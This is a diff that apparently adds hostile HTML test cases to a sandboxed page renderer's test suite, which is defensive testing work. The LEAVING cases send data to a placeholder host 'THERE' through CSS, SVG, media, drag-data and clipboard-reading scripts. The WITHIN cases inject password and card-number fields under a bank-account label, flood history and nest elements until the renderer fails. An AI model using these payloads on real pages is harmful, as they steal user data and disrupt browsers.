@@ -69,6 +69,34 @@ LEAVING = {
         '<meta http-equiv=Content-Security-Policy content="img-src none; report-uri THERE/">'
         "<img src=/a.png><img src=THERE/b.png>"
     ),
+    "a style that tells what is ticked": (
+        "<style>form:has(#b:valid) { background: image-set('THERE/1.png' 1x);"
+        " cursor: url(THERE/2.cur), auto; mask: url(THERE/3.svg#m); list-style: url(THERE/4) }"
+        " #b:not(:placeholder-shown)::after, h1::before { content: url(THERE/5) }</style>"
+    ),
+    "a drawing": (
+        "<svg><image href=THERE/a.png /><use href='THERE/b.svg#x' />"
+        "<filter id=f><feImage href=THERE/c.png /></filter>"
+        "<rect filter='url(#f)' width=9 height=9 /></svg>"
+    ),
+    "a film": "<video src=THERE/a.mp4 poster=THERE/b.png autoplay></video><audio src=THERE/c>",
+    "an icon and a list of the app": (
+        "<link rel=icon href=THERE/i.png><link rel=manifest href=THERE/m.json>"
+        "<img srcset='THERE/a.png 1x'><picture><source srcset=THERE/b.png><img></picture>"
+    ),
+    "a stream": "<script>new EventSource('THERE/')</script>",
+    "what is dragged": (
+        f"<script>going = () => {{ const d = new DataTransfer(); d.setData('text/uri-list',"
+        f" 'THERE/?' + ({VALUES})); for (const t of ['dragstart', 'dragover', 'drop'])"
+        " document.body.dispatchEvent(new DragEvent(t, {dataTransfer: d, bubbles: true}));"
+        " location.href = d.getData('text/uri-list') }</script>"
+    ),
+    "what was copied": (
+        f"<script>addEventListener('copy', (e) => e.clipboardData.setData('text/plain', {VALUES}));"
+        f"going = async () => {{ document.execCommand('copy'); let t = '';"
+        f" try {{ t = await navigator.clipboard.readText() }} catch {{ t = ({VALUES}) }}"
+        " fetch('THERE/?' + t, {mode: 'no-cors'}) }</script>"
+    ),
     "a redirect": "<script>going = () => { location.href = '/redirect' }</script>",
     "a fetch that is redirected": "<script>fetch('/redirect', {mode: 'no-cors'})</script>",
 }
@@ -109,6 +137,32 @@ WITHIN = {
             "<script>for (let n = 0; n < 300; n++) document.body.insertAdjacentHTML('beforeend',"
             " '<div role=alert>' + 'x'.repeat(9999) + '</div>')</script>"
         ),
+        "cổng",
+    ),
+    "fields that ask for more": (
+        (
+            "<script>for (const n of ['citizen_id', 'phone', 'cc-number', 'password'])"
+            " document.forms[0].insertAdjacentHTML('beforeend',"
+            " `<label for=${n}>Số tài khoản ngân hàng (*)</label>"
+            "<input id=${n} name=${n} autocomplete=${n} required>`)</script>"
+        ),
+        "Số tài khoản ngân hàng",
+    ),
+    "a history of a thousand places": (
+        (
+            "<script>going = () => {"
+            " for (let n = 0; n < 1000; n++) history.pushState(n, '', '/x' + n);"
+            " onpopstate = () => history.pushState(0, '', '/y'); history.go(-500) }</script>"
+        ),
+        "chưa hiện gì mới",
+    ),
+    "a page as deep as it can be": (
+        (
+            "<script>let d = document.body; for (let n = 0; n < 5000; n++)"
+            " { d.append(document.createElement('div')); d = d.lastChild }"
+            " going = () => {}</script>"
+        ),
+        # Its own browser gives up at it, sooner or later.
         "cổng",
     ),
     "a file of this machine": (
